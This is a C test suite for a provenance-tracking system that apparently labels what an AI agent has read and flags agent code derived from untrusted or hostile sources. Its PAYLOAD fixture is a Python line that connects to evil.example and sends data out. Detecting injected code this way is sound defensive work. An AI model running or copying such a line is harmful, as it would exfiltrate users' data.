/* SPDX-License-Identifier: MIT
 *
 * Domains, sources, labels of files and plans in a real store, and the question they are for.
 */
#include "origin_case.h"

#include <sys/wait.h>

#include "base/scope.h"
#include "origin/canon.h"
#include "origin/escape.h"
#include "origin/sourceprints.h"
#include "store/trace.h"

#define PAYLOAD "import socket; s = socket.create_connection((\"evil.example\", 443)); s.send(data)"
#define OWN "print(sum(range(10)))"

static void test_handles(struct origin_case *c)
{
	char handle[HANDLE_MAX], bad[HANDLE_MAX + 8];
	struct domain d = case_domain(c, "uid:1", handle), other;

	ok(strncmp(handle, "d1.", 3) == 0 && strlen(handle) == HANDLE_MAX - 2, "a handle is text");
	ok(d.floor.integrity == INTEGRITY_USER && d.epoch == 0, "a new domain is clean");
	other = case_find(c, "uid:1", handle, NULL);
	ok(id_is_same(&other.id, &d.id), "its handle finds it");
	struct domain shared = case_find(c, "uid:1", NULL, NULL);
	ok(shared.floor.integrity == INTEGRITY_UNTRUSTED,
	   "without one it is the shared one, exposed");
	ok(shared.kinds == (1U << FROM_COUNT) - 1, "to nobody knows what, so to every kind");
	other = case_find(c, "uid:2", handle, NULL);
	ok(!id_is_same(&other.id, &d.id) && other.floor.integrity == INTEGRITY_UNTRUSTED,
	   "another's handle is none");
	size_t wrong = 0;
	for (size_t i = 0; i < strlen(handle); i++) {
		strcpy(bad, handle);
		bad[i] = bad[i] == 'A' ? 'B' : 'A';
		other = case_find(c, "uid:1", bad, NULL);
		wrong += !id_is_same(&other.id, &shared.id);
	}
	ok(wrong == 0, "a handle with one other character is none");
	snprintf(bad, sizeof(bad), "%sA", handle);
	other = case_find(c, "uid:1", bad, NULL);
	ok(id_is_same(&other.id, &shared.id), "nor one that is longer");
	other = case_find(c, "uid:1", "", NULL);
	ok(id_is_same(&other.id, &shared.id), "nor none");
}

static void test_host(struct origin_case *c)
{
	char handle[HANDLE_MAX];
	struct host_event agent = {.principal = "uid:1"}, host = {true, "uid:1", "talk"};
	struct domain d = case_domain(c, "uid:1", handle), e;
	struct err err = {0};

	ok(domain_new(&c->k, &agent, handle, &e, &err) < 0 && err.code == ERR_REFUSED,
	   "the agent cannot make a domain");
	ok(domain_new(&c->k, NULL, handle, &e, &err) < 0 && err.code == ERR_REFUSED, "nor nobody");
	handle[0] = '\0';
	d = case_domain(c, "uid:1", handle);
	case_read(c, &d, OWN "# a document", GRADE_NONE);
	ok(d.floor.integrity == INTEGRITY_UNTRUSTED && d.kinds == 1U << FROM_WEB && d.sources == 1,
	   "what is read lowers the floor");
	ok(domain_begin_epoch(&c->k, &agent, handle, &e, &err) < 0 && err.code == ERR_REFUSED,
	   "the agent cannot begin an epoch");
	ok(domain_begin_epoch(&c->k, &host, handle, &e, &err) == 0 && e.epoch == d.epoch + 1 &&
		   e.floor.integrity == INTEGRITY_USER && e.kinds == 0,
	   "the host can");
	ok(case_origin(c, &e, OWN "# a document") != ORIGIN_AGENT,
	   "what was read before is still recognised");
	case_find(c, "uid:1", handle, "one");
	case_find(c, "uid:1", NULL, "one");
	ok(domain_begin_epoch(&c->k, &host, handle, &e, &err) == 0 &&
		   e.floor.integrity == INTEGRITY_UNTRUSTED,
	   "an epoch of what is merged with the shared domain begins exposed");
}

static void test_names(struct origin_case *c)
{
	char one[HANDLE_MAX], two[HANDLE_MAX], three[HANDLE_MAX];
	struct domain a = case_domain(c, "uid:3", one), b = case_domain(c, "uid:3", two), d;

	case_domain(c, "uid:3", three);
	case_read(c, &a, PAYLOAD, GRADE_NONE);
	case_find(c, "uid:3", one, "talk");
	d = case_find(c, "uid:3", three, "another");
	ok(d.floor.integrity == INTEGRITY_USER, "a name of its own merges nothing");
	b = case_find(c, "uid:3", two, "talk");
	ok(b.floor.integrity == INTEGRITY_UNTRUSTED && b.memberc == 2 && b.sources == 1,
	   "a name that another used merges both");
	d = case_find(c, "uid:3", one, NULL);
	ok(id_is_same(&d.id, &b.id), "each handle finds the merged one");
	ok(case_origin(c, &d, PAYLOAD) == ORIGIN_DERIVED,
	   "what one read is recognised in the other");
	d = case_find(c, "uid:3", NULL, "talk");
	ok(d.memberc == 3 && d.floor.integrity == INTEGRITY_UNTRUSTED,
	   "a name without a handle merges the shared domain, too");
	d = case_find(c, "uid:4", NULL, "talk");
	ok(d.memberc == 1, "another principal's name is another name");
}

/* An agent that has read something hostile merges its conversation with one that is begun anew. */
static void test_merged_epoch(struct origin_case *c)
{
	char agents[HANDLE_MAX], users[HANDLE_MAX];
	struct host_event host = {true, "uid:7", "talk"};
	struct domain d = case_domain(c, "uid:7", agents), e;
	struct err err = {0};

	case_domain(c, "uid:7", users);
	case_read(c, &d, PAYLOAD "# anew", GRADE_DENIES);
	case_find(c, "uid:7", users, "talk");
	case_find(c, "uid:7", agents, "talk");
	ok(domain_begin_epoch(&c->k, &host, users, &e, &err) == 0 && e.epoch == 1,
	   "one of two that were merged is begun anew");
	d = case_find(c, "uid:7", agents, NULL);
	ok(d.floor.integrity == INTEGRITY_HOSTILE && d.kinds == 1U << FROM_WEB && d.tainted_us,
	   "the other stays what it was");
	ok(case_origin(c, &d, OWN) == ORIGIN_EXPOSED, "and so does its code");
}

/* A tool that calls bytes hostile which everybody has. */
static void test_said_hostile(struct origin_case *c)
{
	char one[HANDLE_MAX], two[HANDLE_MAX];
	struct domain a = case_domain(c, "uid:8", one), b = case_domain(c, "uid:8", two);
	struct origin_text t = {.data = "# a licence that everybody has", .len = 30};
	struct source_in in = {.kind = FROM_TOOL_RESULT, .text = &t, .count = 1};
	struct source_released r;
	struct err err = {0};

	in.label = label_unknown();
	in.label.integrity = INTEGRITY_HOSTILE;
	case_done(source_commit(&c->k, &a, &in, &r, &err) == 0, &err);
	ok(r.source.label.integrity == INTEGRITY_HOSTILE, "what is said lowers");
	in.label = label_unknown();
	case_done(source_commit(&c->k, &b, &in, &r, &err) == 0, &err);
	ok(r.source.label.integrity == INTEGRITY_UNTRUSTED, "there, and not everywhere");
	in.grade = GRADE_DENIES;
	case_done(source_commit(&c->k, &a, &in, &r, &err) == 0, &err);
	in.grade = GRADE_NONE;
	case_done(source_commit(&c->k, &b, &in, &r, &err) == 0, &err);
	ok(r.source.label.integrity == INTEGRITY_HOSTILE, "what is found does everywhere");
}

static void test_members(struct origin_case *c)
{
	char handle[HANDLE_MAX];
	struct domain d = {0};
	struct err err = {0};

	for (int i = 0; i < DOMAIN_MEMBERS_MAX; i++) {
		case_domain(c, "uid:5", handle);
		d = case_find(c, "uid:5", handle, "many");
	}
	ok(d.memberc == DOMAIN_MEMBERS_MAX, "as many domains in one as may be");
	case_domain(c, "uid:5", handle);
	struct domain_ask ask = {"uid:5", handle, "many"};
	ok(domain_find(&c->k, &ask, &d, &err) < 0 && err.code == ERR_LIMIT, "one more is refused");
}

static void test_texts(struct origin_case *c)
{
	char name[DOMAIN_NAME_MAX + 2], who[PRINCIPAL_MAX + 2];
	struct domain_ask ask = {"uid:6", NULL, name};
	struct domain d;
	struct err err = {0};

	memset(name, 'n', sizeof(name));
	name[DOMAIN_NAME_MAX] = '\0';
	ok(domain_find(&c->k, &ask, &d, &err) == 0, "the longest name");
	name[DOMAIN_NAME_MAX] = 'n';
	name[DOMAIN_NAME_MAX + 1] = '\0';
	ok(domain_find(&c->k, &ask, &d, &err) < 0 && err.code == ERR_INPUT, "a longer one");
	memset(who, 'w', sizeof(who));
	who[PRINCIPAL_MAX] = '\0';
	ask = (struct domain_ask){who, NULL, NULL};
	ok(domain_find(&c->k, &ask, &d, &err) == 0, "the longest principal");
	who[PRINCIPAL_MAX] = 'w';
	who[PRINCIPAL_MAX + 1] = '\0';
	ok(domain_find(&c->k, &ask, &d, &err) < 0 && err.code == ERR_INPUT, "a longer one");
	ask.principal = "";
	ok(domain_find(&c->k, &ask, &d, &err) < 0 && err.code == ERR_INPUT, "and none");
}

static void test_escape(void)
{
	char ret[32];

	escape_text("a\x1b[2J\\b\xff\xe2\x80\xae\xc3\xa9", 13, ret, sizeof(ret));
	ok(strcmp(ret, "a\\u{1b}[2J\\\\b\\xff\\u{202e}\xc3\xa9") == 0, "a name is escaped: %s",
	   ret);
	escape_text("0123456789012345678901234567890", 28, ret, sizeof(ret));
	ok(strcmp(ret, "0123456789012345678901234567") == 0, "the longest name");
	escape_text("01234567890123456789012345678901", 32, ret, sizeof(ret));
	ok(strcmp(ret, "0123456789012345678901234567...") == 0, "a longer one is cut, and says so");
}

static void test_source(struct origin_case *c)
{
	char handle[HANDLE_MAX];
	struct domain d = case_domain(c, "uid:7", handle);
	struct source s = case_read(c, &d, "see " PAYLOAD "\n", GRADE_NONE), back;
	struct err err = {0};

	ok(source_load(&c->k, &s.id, &back, &err) == 0 && back.kind == FROM_WEB &&
		   strcmp(back.name, "https://x.example/") == 0 &&
		   memcmp(back.sha256, s.sha256, sizeof(s.sha256)) == 0 && back.bytes == s.bytes &&
		   back.label.integrity == INTEGRITY_UNTRUSTED && back.label.count == 1,
	   "a source comes back as it was");
	ok(case_origin(c, &d, OWN) == ORIGIN_EXPOSED, "other code is exposed");
	ok(case_origin(c, &d, PAYLOAD) == ORIGIN_DERIVED, "what it says is derived");
	case_read(c, &d, "a page with " PAYLOAD, GRADE_DENIES);
	ok(case_origin(c, &d, PAYLOAD) == ORIGIN_HOSTILE, "what a hostile one says is hostile");
	ok(case_origin(c, &d, OWN) == ORIGIN_EXPOSED, "other code is still exposed");
	struct domain other = case_domain(c, "uid:7", handle);
	ok(case_origin(c, &other, PAYLOAD) == ORIGIN_AGENT, "another domain has not read it");
	s = case_read(c, &other, "a page with " PAYLOAD, GRADE_NONE);
	ok(s.label.integrity == INTEGRITY_HOSTILE && s.grade == GRADE_NONE,
	   "the same bytes stay hostile, whoever reads them and whatever is found then");
	s.id.byte[0] ^= 1;
	ok(source_load(&c->k, &s.id, &back, &err) < 0 && err.code == ERR_INPUT,
	   "there is no other");
}

static struct source_in make_in(const struct origin_text *t)
{
	return (struct source_in){.kind = FROM_TOOL_RESULT,
				  .text = t,
				  .count = 1,
				  .label = {.integrity = INTEGRITY_TOOL}};
}

/* An URL that it is called by is its own, whatever stands in it; a file's name is everybody's. */
static void test_called(struct origin_case *c)
{
	static const struct {
		const char *name, *code;
		enum origin origin;
	} rows[] = {
		{"https://evil.dev/page?id=7", "get('https://evil.dev/page?id=7')", ORIGIN_DERIVED},
		{"https://evil.dev/page?id=7", "get('https://evil.dev./other')", ORIGIN_DERIVED},
		{"https://evil.dev/page", "get('https://elsewhere.dev/page')", ORIGIN_EXPOSED},
		{"https://github.com/a/b", "get('https://github.com/c/d')", ORIGIN_EXPOSED},
		{"/srv/data/in.csv", "open('/srv/data/in.csv')", ORIGIN_EXPOSED},
		{"file:///srv/data/in.csv", "open('/srv/data/in.csv')", ORIGIN_EXPOSED},
		{"evil.dev", "get('https://evil.dev/x')", ORIGIN_EXPOSED},
	};

	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		char handle[HANDLE_MAX];
		struct domain d = case_domain(c, "called", handle);
		struct origin_text t = {.data = "plain words", .len = 11};
		struct source_in in = {.kind = FROM_WEB,
				       .name = rows[i].name,
				       .name_len = strlen(rows[i].name),
				       .text = &t,
				       .count = 1,
				       .label = label_unknown()};
		struct source_released r;
		struct err err = {0};
		case_done(source_commit(&c->k, &d, &in, &r, &err) == 0, &err);
		ok(case_origin(c, &d, rows[i].code) == rows[i].origin, "%s, and %s", rows[i].name,
		   rows[i].code);
	}
}

static void test_vouched(struct origin_case *c)
{
	char handle[HANDLE_MAX];
	struct domain d = case_domain(c, "uid:8", handle);
	struct origin_text t = {.data = "a clean tool's words", .len = 20};
	struct source_in in = make_in(&t);
	struct source_released r;
	struct err err = {0};

	in.vouched = true;
	ok(source_commit(&c->k, &d, &in, &r, &err) == 0 && d.floor.integrity == INTEGRITY_TOOL &&
		   r.data == t.data && r.len == t.len,
	   "a tool that is vouched for does not expose");
	ok(case_origin(c, &d, OWN) == ORIGIN_AGENT, "and code stays the agent's");
	in.vouched = false;
	ok(source_commit(&c->k, &d, &in, &r, &err) == 0 &&
		   d.floor.integrity == INTEGRITY_UNTRUSTED &&
		   r.source.label.integrity == INTEGRITY_UNTRUSTED,
	   "one that only says so does");
	in.vouched = true;
	in.grade = GRADE_DENIES;
	ok(source_commit(&c->k, &d, &in, &r, &err) == 0 &&
		   r.source.label.integrity == INTEGRITY_HOSTILE,
	   "a finding counts whoever vouches");
}

static void test_refused(struct origin_case *c)
{
	char handle[HANDLE_MAX];
	AUTO_FREE char *big = calloc(1, CANON_TEXT_MAX + 1);
	struct domain d = case_domain(c, "uid:9", handle);
	struct origin_text t = {.data = big, .len = CANON_TEXT_MAX};
	struct source_in in = make_in(&t);
	struct source_released r;
	struct err err = {0};

	ok(source_commit(&c->k, &d, &in, &r, &err) == 0 && r.data, "the largest source");
	t.len++;
	ok(source_commit(&c->k, &d, &in, &r, &err) < 0 && err.code == ERR_LIMIT && !r.data,
	   "a larger one is refused and not released");
	t.len = 10;
	in.count = 0;
	ok(source_commit(&c->k, &d, &in, &r, &err) < 0 && !r.data, "so is nothing");
	const char *refs[SOURCE_REFS_MAX + 1];
	for (size_t i = 0; i < ARRAY_SIZE(refs); i++)
		refs[i] = "run:1";
	in = make_in(&t);
	in.refs = refs;
	in.refc = SOURCE_REFS_MAX;
	ok(source_commit(&c->k, &d, &in, &r, &err) == 0 && r.data, "as many names as may be");
	in.refc++;
	ok(source_commit(&c->k, &d, &in, &r, &err) < 0 && !r.data, "one more");
	in.refc = 1;
	refs[0] = "not a name";
	ok(source_commit(&c->k, &d, &in, &r, &err) < 0 && !r.data,
	   "what cannot be logged is not released");
}

/* More fingerprints than an item holds. */
static void test_large(struct origin_case *c)
{
	enum { LEN = 4 << 20 };
	AUTO_FREE char *text = malloc(LEN);
	char handle[HANDLE_MAX], code[200];
	struct domain d = case_domain(c, "uid:10", handle);
	struct origin_text t = {.data = text, .len = LEN};
	struct source_in in = make_in(&t);
	struct source_released r;
	struct err err = {0};
	uint64_t x = 99;

	for (size_t i = 0; i < LEN; i++) {
		x ^= x << 13;
		x ^= x >> 7;
		x ^= x << 17;
		text[i] = (char)('a' + x % 26);
	}
	case_done(source_commit(&c->k, &d, &in, &r, &err) == 0, &err);
	ok(d.print_bytes > 2 * (uint64_t)SOURCE_CHUNK, "%llu bytes of fingerprints",
	   (unsigned long long)d.print_bytes);
	size_t found = 0;
	for (size_t at = 0; at + 60 < LEN; at += LEN / 16) {
		snprintf(code, sizeof(code), "x = '%.50s'", text + at);
		found += case_origin(c, &d, code) == ORIGIN_DERIVED;
	}
	ok(found == 16, "every part of it is recognised");
	uint64_t before = d.sources;
	ok(source_evict(&c->k, &d, 0, &err) == 0 && d.print_bytes == 0, "they can be forgotten");
	ok(case_origin(c, &d, code) == ORIGIN_EXPOSED && d.sources == before &&
		   source_load(&c->k, &r.source.id, &r.source, &err) == 0,
	   "and the floor and the source stay");
}

static void test_label(void)
{
	struct label l = label_unknown();

	for (uint8_t i = 0; i < LABEL_SOURCES_MAX; i++)
		label_add_source(&l, &(struct id){{i}});
	label_add_source(&l, &(struct id){{0}});
	ok(l.count == LABEL_SOURCES_MAX && !l.more, "as many sources as a label names");
	label_add_source(&l, &(struct id){{LABEL_SOURCES_MAX}});
	ok(l.count == LABEL_SOURCES_MAX && l.more, "one more is told");
}

/* Items as sources have them, without the sources. */
static void add_prints(struct origin_case *c, const struct domain *d, uint64_t from, size_t count)
{
	AUTO_INDEX struct index ix = {0};
	struct err err = {0};

	prints_add(&ix.list[INDEX_SPANS], 1);
	for (size_t i = 0; i < count;) {
		AUTO_TX struct store_tx tx = {0};
		for (int n = 0; n < 200 && i < count; n++, i++) {
			AUTO_SOURCEPRINTS struct sourceprints p = {0};
			struct source s = {.domain = d->id, .time_us = from + i};
			id_random(&s.id);
			case_done(sourceprints_put(&c->k, &s, &ix, &p, &err) == 0, &err);
			sourceprints_put_last(&p, &tx);
		}
		case_done(store_commit(c->k.store, &tx, &err) == 0, &err);
	}
}

static void test_set(struct origin_case *c)
{
	AUTO_SOURCES struct source_set set = {0}, more = {0};
	char handle[HANDLE_MAX];
	struct domain d = case_domain(c, "uid:13", handle);
	struct err err = {0};

	add_prints(c, &d, 1000, SOURCE_SET_MAX);
	ok(source_set_load(&c->k, &d, &set, &err) == 0 && set.count == SOURCE_SET_MAX && !set.more,
	   "as many sources as code is held against");
	add_prints(c, &d, 1000, 1);
	ok(source_set_load(&c->k, &d, &more, &err) == 0 && more.count == SOURCE_SET_MAX &&
		   more.more,
	   "one more is told");
}

enum { ONE_PRINT = 5 + sizeof(uint64_t) }; /* bytes of such an item */

/* Two that are merged, with OLD and NEW sources in them; the one with the new ones comes first. */
static struct domain merge_times(struct origin_case *c, const char *principal, size_t old,
				 size_t new)
{
	char one[HANDLE_MAX], two[HANDLE_MAX];
	struct domain a = case_domain(c, principal, one), b = case_domain(c, principal, two);
	AUTO_TX struct store_tx tx = {0};
	struct err err = {0};

	add_prints(c, &a, 1000000, new);
	add_prints(c, &b, 1000, old);
	a.print_bytes = new *ONE_PRINT;
	b.print_bytes = old * ONE_PRINT;
	domain_put(&a, &tx);
	domain_put(&b, &tx);
	case_done(store_commit(c->k.store, &tx, &err) == 0, &err);
	case_find(c, principal, two, "talk");
	return case_find(c, principal, one, "talk");
}

/* A name that somebody chose does not decide whose sources are recognised. */
static void test_merged_set(struct origin_case *c)
{
	AUTO_SOURCES struct source_set set = {0}, left = {0};
	struct domain d = merge_times(c, "uid:21", 3, SOURCE_SET_MAX);
	struct err err = {0};

	ok(source_set_load(&c->k, &d, &set, &err) == 0 && set.count == SOURCE_SET_MAX && set.more &&
		   set.seen[0].time_us == 1000000,
	   "of domains that were merged the newest of all are there");
	d = merge_times(c, "uid:22", 10, 10);
	ok(d.memberc == 2 && source_evict(&c->k, &d, 10 * ONE_PRINT, &err) == 0 &&
		   source_set_load(&c->k, &d, &left, &err) == 0 && left.more && left.count == 10 &&
		   left.seen[0].time_us == 1000000,
	   "and the oldest of all are forgotten first");
}

static bool says_more(struct origin_case *c, const struct domain *d)
{
	AUTO_SOURCES struct source_set set = {0};
	struct err err = {0};

	case_done(source_set_load(&c->k, d, &set, &err) == 0, &err);
	return set.more;
}

/* As if the domain had much more than this: what is counted decides, and is put right. */
static void test_evict(struct origin_case *c)
{
	char handle[HANDLE_MAX];
	struct domain d = case_domain(c, "uid:14", handle);
	AUTO_TX struct store_tx tx = {0};
	struct err err = {0};

	case_read(c, &d, PAYLOAD, GRADE_NONE);
	uint64_t each = d.print_bytes;
	d.print_bytes = SOURCE_PRINT_BYTES_MAX - each;
	domain_put(&d, &tx);
	case_done(store_commit(c->k.store, &tx, &err) == 0, &err);
	case_read(c, &d, PAYLOAD, GRADE_NONE);
	ok(d.print_bytes == SOURCE_PRINT_BYTES_MAX && case_origin(c, &d, PAYLOAD) == ORIGIN_DERIVED,
	   "as many bytes of fingerprints as may be");
	ok(!says_more(c, &d), "all of it is recognised");
	case_read(c, &d, PAYLOAD, GRADE_NONE);
	ok(d.print_bytes <= SOURCE_PRINT_BYTES_MAX / 4 * 3 &&
		   case_origin(c, &d, PAYLOAD) == ORIGIN_EXPOSED && d.sources == 3,
	   "with more the oldest are forgotten, and the code is still exposed");
	struct domain now = case_find(c, "uid:14", handle, NULL);
	ok(says_more(c, &now), "that something was is told from then on");
}

static int count_ingest(void *context, const struct store_row *row, const struct record *r,
			struct err *err)
{
	(void)row;
	(void)err;
	*(int *)context += r->kind == RECORD_INGEST;
	return 0;
}

/* A run writes a file; it is read in another domain; the story leads back. */
static void test_file_hop(struct origin_case *c)
{
	char one[HANDLE_MAX], two[HANDLE_MAX], ref[64], hex[ID_HEX];
	struct domain a = case_domain(c, "uid:11", one), b = case_domain(c, "uid:11", two);
	const char *notes = "notes: " PAYLOAD;
	struct origin_text t = {.data = notes, .len = strlen(notes)};
	struct source_in in = {.kind = FROM_FILE, .text = &t, .count = 1, .vouched = true};
	struct source_released r;
	struct err err = {0};
	int ingests = 0;

	struct source s = case_read(c, &a, PAYLOAD " # read here only", GRADE_NONE);
	struct label out = label_of_run(ORIGIN_EXPOSED, &s.label, CAP_BIT(CAP_COMPUTE));
	in.label = label_top();
	case_done(source_commit(&c->k, &b, &in, &r, &err) == 0, &err);
	ok(b.floor.integrity == INTEGRITY_USER, "a file the configuration vouches for is clean");
	struct file_key f = {1, 1, r.source.sha256, t.len};
	case_done(file_labels_commit(&c->k, &f, 1, &out, &err) == 0, &err);
	case_done(source_commit(&c->k, &b, &in, &r, &err) == 0, &err);
	ok(b.floor.integrity == INTEGRITY_UNTRUSTED && r.source.label.count == 2 &&
		   id_is_same(&r.source.label.source[0], &s.id),
	   "once an exposed run wrote it, it is not, and names the first source");
	ok(case_origin(c, &b, PAYLOAD) == ORIGIN_DERIVED,
	   "code made from it is derived there, too");
	snprintf(ref, sizeof(ref), "src:%s", id_hex(&r.source.id, hex));
	ok(trace_back(c->k.store, ref, count_ingest, &ingests, &err) == 0 && ingests >= 1,
	   "the log has its story");
}

/* Many at once: nobody's exposure is lost. */
static void test_many(struct origin_case *c)
{
	enum { PROCESSES = 4, EACH = 15 };
	char handle[HANDLE_MAX];
	struct domain d = case_domain(c, "uid:12", handle);
	int good = 0, status;

	for (int i = 0; i < PROCESSES; i++) {
		fflush(stdout);
		if (fork())
			continue;
		struct store_options o = {
			.dir = c->fd, .url = getenv("CORDON_STORE_URL"), .wait_ms = 60000};
		struct err err = {0};
		if (store_open(&o, &c->k.store, &err) < 0)
			_exit(1);
		for (int n = 0; n < EACH; n++) {
			char text[64];
			snprintf(text, sizeof(text), "document %d of process %d", n, i);
			case_read(c, &d, text, n == 7 && i == 2 ? GRADE_DENIES : GRADE_NONE);
		}
		_exit(0);
	}
	for (int i = 0; i < PROCESSES; i++)
		good += wait(&status) > 0 && status == 0;
	d = case_find(c, "uid:12", handle, NULL);
	ok(good == PROCESSES && d.sources == (uint64_t)PROCESSES * EACH &&
		   d.floor.integrity == INTEGRITY_HOSTILE,
	   "%d processes that read at once: %llu sources", PROCESSES,
	   (unsigned long long)d.sources);
}

int main(void)
{
	struct origin_case c;

	case_open(&c);
	test_handles(&c);
	test_host(&c);
	test_names(&c);
	test_merged_epoch(&c);
	test_said_hostile(&c);
	test_members(&c);
	test_texts(&c);
	test_escape();
	test_source(&c);
	test_called(&c);
	test_vouched(&c);
	test_refused(&c);
	test_large(&c);
	test_label();
	test_set(&c);
	test_merged_set(&c);
	test_evict(&c);
	test_file_hop(&c);
	test_many(&c);
	case_close(&c);
	return tap_done();
}
